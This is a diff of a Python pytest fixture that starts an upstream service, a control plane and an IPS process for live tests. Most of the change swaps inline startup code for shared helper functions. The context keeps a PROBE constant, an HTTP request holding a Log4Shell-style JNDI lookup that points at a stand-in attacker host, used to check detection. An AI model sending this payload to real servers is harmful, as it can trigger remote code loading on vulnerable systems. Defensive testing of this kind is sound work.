@@ -19,9 +19,10 @@ from pathlib import Path
 import aiohttp
 import pytest
 
-from shared.runtime.ports import free_port, wait_for_port
+from shared.runtime.ports import free_port
 from shared.runtime.process import stop_process
-from tests.control.test_waf_live import Api, _create_key, _spawn, _wait_ready
+from tests.control.test_waf_live import Api
+from tests.live import create_key, spawn, start_control_plane, start_upstream, wait_ready
 
 PROBE = b"GET /?q=${jndi:ldap://attacker.test/a} HTTP/1.1\r\nHost: shop\r\nConnection: close\r\n\r\n"
 BENIGN = b"GET /hello HTTP/1.1\r\nHost: shop\r\nConnection: close\r\n\r\n"
@@ -41,23 +42,15 @@ def live_ips(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveIps]:
     d: Path = tmp_path_factory.mktemp("live-ips")
     procs = []
     try:
-        up = free_port()
-        procs.append(_spawn(["services.demo_upstream", "--port", str(up)], d / "upstream.log"))
-        wait_for_port("127.0.0.1", up, timeout=30)
-        api_port = free_port()
-        boot = d / "bootstrap.key"
-        procs.append(_spawn(["services.api", "--port", str(api_port), "--control-db", f"sqlite:///{d / 'control.db'}",
-                             "--bootstrap-key-file", str(boot), "--store", f"sqlite:///{d / 'audit.db'}"], d / "api.log"))
-        api = f"http://127.0.0.1:{api_port}"
-        _wait_ready(api + "/readyz", procs[-1], d / "api.log")
-        provider = boot.read_text().strip()
-        (d / "dataplane.key").write_text(_create_key(api, provider, {"id": "ips-fleet", "role": "dataplane"}))
+        up = start_upstream(d, procs)
+        api, provider = start_control_plane(d, procs)
+        (d / "dataplane.key").write_text(create_key(api, provider, {"id": "ips-fleet", "role": "dataplane"}))
         admin_port = free_port()
-        procs.append(_spawn(["services.ips", "run", "--control-url", api, "--control-key-file", str(d / "dataplane.key"),
+        procs.append(spawn(["services.ips", "run", "--control-url", api, "--control-key-file", str(d / "dataplane.key"),
                              "--control-wait", "5", "--admin-port", str(admin_port), "--kafka", "",
                              "--cache-dir", str(d / "cache"), "--spool-dir", str(d / "spool"),
                              "--eve", str(d / "eve.json")], d / "ips.log"))
-        _wait_ready(f"http://127.0.0.1:{admin_port}/readyz", procs[-1], d / "ips.log")
+        wait_ready(f"http://127.0.0.1:{admin_port}/readyz", procs[-1], d / "ips.log")
         yield LiveIps(api, provider, up, f"http://127.0.0.1:{admin_port}", d / "eve.json")
     finally:
         for p in reversed(procs):
